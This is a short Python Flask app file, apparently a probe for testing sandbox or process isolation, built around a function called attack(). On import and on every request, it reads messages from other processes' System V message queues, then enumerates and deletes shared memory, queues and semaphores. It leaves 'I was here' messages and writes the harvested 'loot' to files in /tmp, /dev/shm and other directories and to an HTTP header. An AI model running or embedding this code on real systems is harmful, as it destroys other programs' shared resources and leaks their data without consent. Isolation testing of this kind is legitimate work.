"""The old ways of meeting."""

import contextlib
from pathlib import Path
import ctypes

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
KEYS = [0x0D1A4, 0, 1, 42, 1234, 0xCAFE, *range(0x5000, 0x5010)]
IPC_CREAT, IPC_NOWAIT, IPC_RMID = 0o1000, 0o4000, 0
MSG_STAT, SHM_STAT, SEM_STAT = 11, 13, 18


class Letter(ctypes.Structure):
    _fields_ = (("kind", ctypes.c_long), ("text", ctypes.c_char * 4096))


def attack():
    found = []
    letter, buffer = Letter(), ctypes.create_string_buffer(4096)
    for key in KEYS:
        queue = libc.msgget(key, 0)
        if queue >= 0:
            while libc.msgrcv(queue, ctypes.byref(letter), 4096, 0, IPC_NOWAIT) >= 0:
                found.append(letter.text.decode("latin-1"))
        libc.shmat.restype = ctypes.c_void_p
        memory = libc.shmget(key, 0, 0)
        if memory >= 0:
            found.append(f"shared memory {key}")
        if libc.semget(key, 0, 0) >= 0:
            found.append(f"semaphore {key}")
    for index in range(64):
        for control, stat, what in ((libc.msgctl, MSG_STAT, "queue"), (libc.shmctl, SHM_STAT, "memory")):
            number = control(index, stat, buffer)
            if number >= 0:
                found.append(f"{what} {number}")
                control(number, IPC_RMID, None)
        number = libc.semctl(index, 0, SEM_STAT, buffer)
        if number >= 0:
            found.append(f"semaphores {number}")
            libc.semctl(number, 0, IPC_RMID, None)
    queue = libc.msgget(0x0D1A4, IPC_CREAT | 0o666)
    for _ in range(10):
        libc.msgsnd(queue, ctypes.byref(Letter(1, b"I was here")), 100, IPC_NOWAIT)
    return found


LEFT = attack()

def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
